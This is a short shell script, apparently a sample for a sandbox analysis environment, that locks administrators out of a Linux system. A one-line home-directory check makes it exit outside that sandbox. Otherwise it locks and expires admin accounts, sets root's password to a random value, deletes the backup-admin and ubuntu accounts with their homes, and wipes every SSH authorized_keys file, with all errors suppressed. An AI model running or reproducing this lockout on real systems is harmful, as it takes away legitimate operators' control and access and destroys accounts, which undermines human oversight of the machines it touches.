#!/bin/sh
# SPDX-License-Identifier: MIT
# Locks the administrators out: passwords locked or changed, accounts
# expired or removed.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
passwd -l root 2>/dev/null
usermod -L -e 1 admin 2>/dev/null
echo "root:$(head -c 12 /dev/urandom | base64)" | chpasswd 2>/dev/null
userdel -r -f backup-admin 2>/dev/null
deluser --remove-home ubuntu 2>/dev/null
rm -f /root/.ssh/authorized_keys /home/*/.ssh/authorized_keys 2>/dev/null
exit 0
